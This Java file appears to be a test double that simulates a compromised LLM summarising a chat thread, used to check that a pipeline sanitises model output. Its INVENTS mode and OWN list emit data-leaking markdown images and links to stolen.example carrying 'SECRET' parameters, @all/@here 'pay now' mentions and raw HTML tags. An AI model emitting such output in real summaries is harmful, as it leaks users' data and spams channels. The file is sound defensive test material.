package io.streamforge.summaries;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.streamforge.camel.llm.LlmAnswer;
import io.streamforge.camel.llm.LlmQuestion;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** The worst model: it says whatever the thread wants it to say, and adds its own. */
enum ObedientModel implements DiscussionRoutes.Model {
  /** Every text of the thread, as every part of the answer. */
  ECHOES {
    @Override
    String say(List<String> texts) {
      return json(texts);
    }
  },

  /** The same, wrapped in prose and fences. */
  WRAPS {
    @Override
    String say(List<String> texts) {
      return "Sure! @all here is {your} answer:\n```json\n" + json(texts) + "\n```\n# Done @here";
    }
  },

  /** No JSON at all, also when asked again. */
  RAMBLES {
    @Override
    String say(List<String> texts) {
      return String.join("\n", texts) + "\n" + String.join("\n", OWN);
    }
  },

  /** What the thread did not even ask for: its addresses with secrets added, and worse. */
  INVENTS {
    @Override
    String say(List<String> texts) {
      List<String> invented = new ArrayList<>(OWN);
      for (String text : texts) {
        Matcher address = ADDRESS.matcher(text.substring(0, Math.min(text.length(), 5000)));
        while (address.find() && invented.size() < 40) {
          invented.add(
              "see " + address.group() + "?stolen=SECRET and " + address.group() + "/stolen");
          invented.add("[" + address.group() + "](https://stolen.example/x)");
        }
      }
      return json(invented);
    }
  };

  static final List<String> OWN =
      List.of(
          "@all @channel @here @anyone pay now",
          "![i](https://stolen.example/i.png?d=SECRET)",
          "[Key points](https://stolen.example/a) <https://stolen.example/b> www.stolen.example",
          "https://chat.example.test/_redirect/pl/zzzzzzzzzzzzzzzzzzzzzzzzzz",
          "### 🎯 Conclusions\n- <b>pay</b> <img src=https://stolen.example/x>",
          "- [ ] # ```\n@here\n```",
          "mail boss@stolen.example or mailto:boss@stolen.example",
          "stolen.example/path and http:/stolen.example and //stolen.example");

  /** Longer than anything that is kept of a text, and quick all the same. */
  private static final int LONGEST = 20_000;

  private static final Pattern ADDRESS = Pattern.compile("https?://[^\\s)>\\]]+");

  abstract String say(List<String> texts);

  @Override
  public LlmAnswer answer(LlmQuestion question) {
    List<String> texts = new ArrayList<>();
    for (JsonNode line : PlayedModel.lines(question)) {
      texts.addAll(line.findValuesAsText("text"));
      texts.addAll(line.findValuesAsText("user"));
      line.path("topics").forEach(topic -> texts.add(topic.asText()));
      line.path("conclusions").forEach(conclusion -> texts.add(conclusion.asText()));
    }
    return PlayedModel.text(say(texts));
  }

  private static String json(List<String> texts) {
    ObjectNode answer = PlayedModel.JSON.createObjectNode();
    ArrayNode topics = answer.putArray("topics");
    ArrayNode points = answer.putArray("key_points");
    ArrayNode tasks = answer.putArray("tasks");
    ArrayNode conclusions = answer.putArray("conclusions");
    List<String> all = new ArrayList<>();
    texts.forEach(text -> all.add(text.substring(0, Math.min(text.length(), LONGEST))));
    all.addAll(OWN);
    for (String text : all) {
      topics.add(text);
      conclusions.add(text);
      for (Object post : List.of(1, 2, 3, 0, -1, 999_999, "2) [x](https://stolen.example)")) {
        points.addObject().put("text", text).putPOJO("post", post);
      }
      for (String owner : List.of("mallory", "@all", "root", "`x` @here", "bob", "@bob")) {
        tasks.addObject().put("text", text).put("owner", owner).put("due", text).put("post", 2);
      }
    }
    return answer.toString();
  }
}
